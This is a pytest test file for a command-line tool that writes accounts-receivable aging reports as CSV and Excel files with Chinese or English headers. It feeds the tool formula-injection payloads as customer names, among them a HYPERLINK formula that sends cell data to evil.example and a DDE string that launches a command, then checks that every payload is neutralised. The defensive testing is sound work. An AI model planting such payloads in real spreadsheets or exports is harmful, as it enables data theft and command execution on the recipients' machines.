"""What `creditkit aging` writes: headers in zh or en, a BOM in CSV files, workbooks a finance team opens,
and text from the input that never runs as a formula (each output reopened and read back)."""

import csv
import io

import openpyxl
import pandas as pd
import pytest

from creditkit.cli import main
from creditkit.receivables.excel import HEADER_ROWS, display_name, neutralize_formulas

HOSTILE = ["=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+2", "-3+4", "@SUM(A1)",
           "广州小计电子", "深圳市华南精密制造有限公司"]
ZH_HEADER = ["客户编码", "客户名称", "未到期", "1-30天", "31-60天", "61-90天", "91-180天", "181-365天", ">365天",
             "合计", "未核销/预收"]


@pytest.fixture
def ledger(tmp_path):
    """One invoice of 1,000.00 per customer (customer names and codes are hostile text), one receipt of 400.00."""
    rows = [["客户编码", "客户名称", "单据类型", "单据编号", "单据日期", "到期日", "金额", "核销单据号"]]
    for i, name in enumerate(HOSTILE):
        rows.append([name if i < 2 else f"C{i}", name, "销售发票", f"XS{i}", "2025-01-03", "2025-05-31", "1,000.00", ""])
    rows.append(["C2", HOSTILE[2], "收款单", "SK1", "2025-01-20", "", "400", "XS2"])
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    p = tmp_path / "ar.csv"
    p.write_text(buf.getvalue(), encoding="gbk")
    return p


def run(ledger, capsys, *extra):
    code = main(["aging", str(ledger), "--as-of", "2025-06-30", *extra])
    out, err = capsys.readouterr()
    assert code == 0, err
    return out


def test_stdout_is_plain_utf8_with_canonical_headers(ledger, capsys):
    out = run(ledger, capsys)
    assert not out.startswith("\ufeff")
    assert out.splitlines()[0].split(",")[:3] == ["customer_id", "customer_name", "not_due"]


def test_csv_file_has_bom_and_chinese_headers(ledger, tmp_path, capsys):
    out = tmp_path / "aging.csv"
    run(ledger, capsys, "--out", str(out), "--lang", "zh")
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ZH_HEADER


def test_csv_neutralises_formulas(ledger, tmp_path, capsys):
    out = tmp_path / "aging.csv"
    run(ledger, capsys, "--out", str(out))
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    names = {r["customer_name"] for r in rows}
    for text in HOSTILE:
        expect = "'" + text if text[0] in "=+-@\t" else text
        assert expect in names, (text, names)
    ids = {r["customer_id"] for r in rows}
    assert "'" + HOSTILE[0] in ids and "'" + HOSTILE[1] in ids
    assert not any(v[:1] in "=+-@\t\r" for r in rows for k, v in r.items() if k in ("customer_id", "customer_name"))
    money = [r["total"] for r in rows]
    assert money.count("1000.00") == len(HOSTILE) - 1 and "600.00" in money  # numbers are left as numbers


def all_cells(path):
    wb = openpyxl.load_workbook(path)  # formulas are kept as formulas (not evaluated) when loaded this way
    return wb, [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_workbook_never_holds_a_formula(ledger, tmp_path, capsys, lang):
    out = tmp_path / "aging.xlsx"
    run(ledger, capsys, "--out", str(out), "--lang", lang)
    wb, cells = all_cells(out)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert set(HOSTILE) <= texts  # shown exactly as the file wrote them
    quoted = [c for c in cells if c.value in HOSTILE[:5]]
    assert quoted and all(c.quotePrefix for c in quoted)


def test_workbook_header_block_totals_and_numbers(ledger, tmp_path, capsys):
    out = tmp_path / "aging.xlsx"
    run(ledger, capsys, "--out", str(out), "--lang", "zh", "--by", "invoice", "--buckets", "90,180")
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["客户账龄", "业务员账龄", "账龄汇总", "未清明细", "未核销预收", "读取核对", "拒绝行", "合计行"]
    ws = wb["客户账龄"]
    assert [ws.cell(r, 1).value for r in range(1, 5)] == [
        "客户账龄", f"数据文件: {ledger}", "基准日: 2025-06-30", "账龄口径: 按单据日期; 账龄区间（天）: 90, 180; 金额单位：元"]
    assert ws.freeze_panes == f"A{HEADER_ROWS + 2}"
    head = [c.value for c in ws[HEADER_ROWS + 1]]
    assert head == ["客户编码", "客户名称", "0-90天", "91-180天", ">180天", "合计", "未核销/预收"]
    t = pd.read_excel(out, sheet_name="客户账龄", header=HEADER_ROWS, engine="openpyxl")
    open_total = 1000.0 * len(HOSTILE) - 400.0
    assert t["合计"].iloc[-1] == open_total and t["客户编码"].iloc[-1] == "合计"
    assert t["合计"].iloc[:-1].sum() == open_total
    total_cell = ws.cell(ws.max_row, 6)
    assert total_cell.font.bold and total_cell.number_format == "#,##0.00;[Red]-#,##0.00"
    # widths: a column of Chinese names is wider than the same count of Latin letters would need
    assert ws.column_dimensions["B"].width >= 2 * len("深圳市华南精密制造有限公司")
    rec = pd.read_excel(out, sheet_name="读取核对", header=HEADER_ROWS, engine="openpyxl")
    amounts = dict(zip(rec["项目"], rec["金额"]))
    counts = dict(zip(rec["项目"], rec["数量"]))
    assert amounts["读取金额"] == open_total + 800.0 and amounts["收款"] == 400.0
    assert counts["读取行数"] == len(HOSTILE) + 1
    assert dict(zip(rec["项目"], rec["说明"]))["核对平衡"] == "是"
    items = pd.read_excel(out, sheet_name="未清明细", header=HEADER_ROWS, engine="openpyxl")
    assert items["未收金额"].iloc[-1] == open_total and items["单据日期"].iloc[0] == pd.Timestamp("2025-01-03")


def test_english_workbook_keeps_canonical_names(ledger, tmp_path, capsys):
    out = tmp_path / "aging.xlsx"
    run(ledger, capsys, "--out", str(out))
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames[:3] == ["aging_by_customer", "aging_by_sales_rep", "aging_summary"]
    assert wb["aging_by_customer"].cell(2, 1).value == f"Source file: {ledger}"
    t = pd.read_excel(out, sheet_name="open_items", header=HEADER_ROWS, engine="openpyxl")
    assert list(t.columns[:5]) == ["customer_id", "customer_name", "sales_rep", "doc_type", "doc_no"]
    assert "open" in t.columns and t["customer_id"].iloc[-1] == "total"


def test_helpers():
    assert neutralize_formulas(pd.Series(["=1", "a=1", "", None, 5])).tolist() == ["'=1", "a=1", "", None, 5]
    assert display_name(">365", "zh") == ">365天" and display_name("not_due", "zh") == "未到期"
    assert display_name(">365") == ">365"
    with pytest.raises(ValueError):
        display_name("total", "fr")
